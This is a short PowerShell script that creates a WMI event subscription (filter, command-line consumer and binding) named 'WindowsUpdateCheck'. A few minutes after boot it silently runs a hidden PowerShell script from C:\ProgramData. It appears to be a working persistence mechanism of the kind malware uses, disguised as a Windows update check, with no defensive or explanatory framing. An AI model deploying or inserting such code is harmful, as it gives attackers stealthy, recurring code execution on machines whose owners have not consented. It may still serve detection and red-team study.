$ns = 'root\subscription'
$name = 'WindowsUpdateCheck'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"

$filter = New-CimInstance -Namespace $ns -ClassName __EventFilter -Property @{
    Name           = $name
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = $query
}

$consumer = New-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Property @{
    Name                = $name
    CommandLineTemplate = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -W Hidden -File C:\ProgramData\wuc.ps1'
}

New-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -Property @{
    Filter   = [ref]$filter
    Consumer = [ref]$consumer
} | Out-Null
